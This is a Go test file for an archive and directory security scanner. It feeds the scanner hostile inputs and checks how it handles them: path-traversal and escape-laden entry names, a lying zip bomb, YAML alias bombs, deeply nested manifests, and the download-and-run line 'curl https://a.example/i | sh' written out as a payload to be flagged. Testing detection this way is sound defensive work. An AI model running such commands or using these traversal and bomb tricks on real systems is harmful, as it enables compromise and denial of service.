package audit

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"os"
	"strings"
	"testing"
	"testing/fstest"
	"time"
)

// crowd is a directory of n empty files.
type crowd int

func (n crowd) Open(name string) (fs.File, error) {
	if name == "." {
		return fstest.MapFS{}.Open(".")
	}
	return fstest.MapFS{name: &fstest.MapFile{}}.Open(name)
}

func (n crowd) ReadDir(string) ([]fs.DirEntry, error) {
	out := make([]fs.DirEntry, n)
	for i := range out {
		out[i] = member(fmt.Sprintf("f%07d.md", i))
	}
	return out, nil
}

// member is an entry of a crowd.
type member string

func (m member) Name() string               { return string(m) }
func (m member) IsDir() bool                { return false }
func (m member) Type() fs.FileMode          { return 0 }
func (m member) Info() (fs.FileInfo, error) { return nil, fs.ErrInvalid }

// A million files are refused once the bound is met, and the rest of them is not opened.
func TestAMillionFiles(t *testing.T) {
	t.Parallel()
	if os.Getenv("COALMINE_DEEP") == "" {
		t.Skip("COALMINE_DEEP is not set: it opens 100,000 files")
	}
	if _, err := Tree(t.Context(), crowd(1_000_000), "x", Options{}); err == nil || !strings.Contains(err.Error(), "more than") {
		t.Errorf("a million files were read: %v", err)
	}
}

// Names of entries are shown without what changes a terminal, and none leads out.
func TestHostileNames(t *testing.T) {
	t.Parallel()
	const script = "curl https://a.example/i | sh\n"
	r, err := Archive(t.Context(), "a.tgz", tgz(t,
		tar.Header{Name: "p/\u202egpj.sh", Linkname: script},
		tar.Header{Name: "p/\x1b[2Jx.sh", Linkname: script},
		tar.Header{Name: "p/../../../x.sh", Linkname: script},
		tar.Header{Name: "/abs.sh", Linkname: script},
		tar.Header{Name: strings.Repeat("d/", 200) + "deep.sh", Linkname: script}), Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Findings) < 4 {
		t.Errorf("%d findings", len(r.Findings))
	}
	for _, f := range r.Findings {
		if f.Location != nil && (strings.Contains(f.Location.Path, "..") || strings.HasPrefix(f.Location.Path, "/")) {
			t.Errorf("%q leads out", f.Location.Path)
		}
	}
	var nul bytes.Buffer
	w := zip.NewWriter(&nul)
	for _, name := range []string{"a\x00.sh", "\xff\xfe.sh", "ok.sh", "ok.sh", "dir/"} {
		f, err := w.Create(name)
		if err == nil && !strings.HasSuffix(name, "/") {
			_, err = io.WriteString(f, script)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if r, err := Archive(t.Context(), "a.zip", nul.Bytes(), Options{}); err != nil || r.Profile.FilesScanned != 4 || r.Skipped != 0 {
		t.Errorf("%+v %v", r, err)
	}
}

// Two entries of one name hide no file, and both are read.
func TestEntriesOfOneName(t *testing.T) {
	t.Parallel()
	const script = "curl https://a.example/i | sh\n"
	for name, data := range map[string][]byte{
		"twice":          tgz(t, tar.Header{Name: "p/a.sh", Linkname: script}, tar.Header{Name: "p/a.sh", Linkname: "ls\n"}, tar.Header{Name: "p/b.sh", Linkname: script}),
		"by another way": tgz(t, tar.Header{Name: "p/a.sh", Linkname: script}, tar.Header{Name: "p/x/../a.sh", Linkname: "ls\n"}, tar.Header{Name: "p/b.sh", Linkname: script}),
		"a directory":    tgz(t, tar.Header{Name: "p/d.sh", Linkname: script}, tar.Header{Name: "p/d.sh/c.sh", Linkname: "ls\n"}, tar.Header{Name: "p/b.sh", Linkname: script}),
	} {
		r, err := Archive(t.Context(), name, data, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if r.Profile.FilesScanned != 3 || r.Skipped != 0 || strings.Count(findings(t, r, DownloadRun), DownloadRun) != 2 {
			t.Errorf("%s: %d read, %d skipped, %s", name, r.Profile.FilesScanned, r.Skipped, findings(t, r, DownloadRun))
		}
	}
}

// A directory that says of each entry that it unpacks to little is not believed.
func TestABombThatLies(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateHeader(&zip.FileHeader{Name: "a.py", Method: zip.Deflate})
	if err == nil {
		_, err = f.Write(bytes.Repeat([]byte("x = 1\n"), 1<<20))
	}
	if err != nil || w.Close() != nil {
		t.Fatal(err)
	}
	data := b.Bytes()
	at := bytes.Index(data, []byte("PK\x01\x02"))
	copy(data[at+24:], []byte{4, 0, 0, 0}) // the unpacked size
	if r, err := Archive(t.Context(), "a.zip", data, Options{}); err == nil && r.Skipped == 0 {
		t.Errorf("a file longer than it says was read: %+v", r.Profile)
	}
}

// Manifests, lockfiles, configurations and encodings that are made to be read for ever end.
func TestHostileData(t *testing.T) {
	t.Parallel()
	n := 1
	if os.Getenv("COALMINE_DEEP") != "" {
		n = 20
	}
	servers := map[string]any{}
	for i := range 250 * n {
		servers[fmt.Sprint(i)] = map[string]any{"url": "http://a.example"}
	}
	many, err := json.Marshal(map[string]any{"remotes": []any{}, "packages": []any{}, "mcpServers": servers})
	if err != nil {
		t.Fatal(err)
	}
	bomb := "a: &a [x,x,x,x,x,x,x,x,x]\n"
	for c := 'b'; c <= 'z'; c++ {
		bomb += fmt.Sprintf("%c: &%c [%s]\n", c, c, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*%c,", c-1), 9), ","))
	}
	deep := strings.Repeat(`{"packages":`, 5_000*n)
	files := map[string]string{
		"pnpm-lock.yaml": "packages:\n" + bomb, "docker-compose.yml": bomb, "package.json": deep, "package-lock.json": deep, "pyproject.toml": "x = " + strings.Repeat("[", 5_000*n),
		"server.json": string(many), "manifest.json": `{"server":{"mcp_config":` + strings.Repeat(`{"platform_overrides":`, 2_500*n), "mcp.json": deep,
		"codes.py": "x = [" + strings.Repeat("65,", 10_000*n) + "]\n" + strings.Repeat("[", 5_000*n), "escapes.js": strings.Repeat(`'\x41`, 5_000*n),
		"back.py": strings.Repeat("''[::-1]", 2_500*n), "nested.py": "x = '" + strings.Repeat("QUFB", 2_500*n) + "'\n", "names.js": strings.Repeat("_0xabcd ", 5_000*n),
		"guards.py": "def t(p):\n" + strings.Repeat("  if p == 'a' and (p == 'b' or p == 'c'):\n    eval(p)\n", 250*n),
	}
	start := time.Now()
	r, err := Dir(t.Context(), write(t, files))
	if err != nil {
		t.Fatal(err)
	}
	if took := time.Since(start); took > time.Minute || r.Profile.FilesScanned != len(files) {
		t.Errorf("%d files in %v", r.Profile.FilesScanned, took)
	}
}
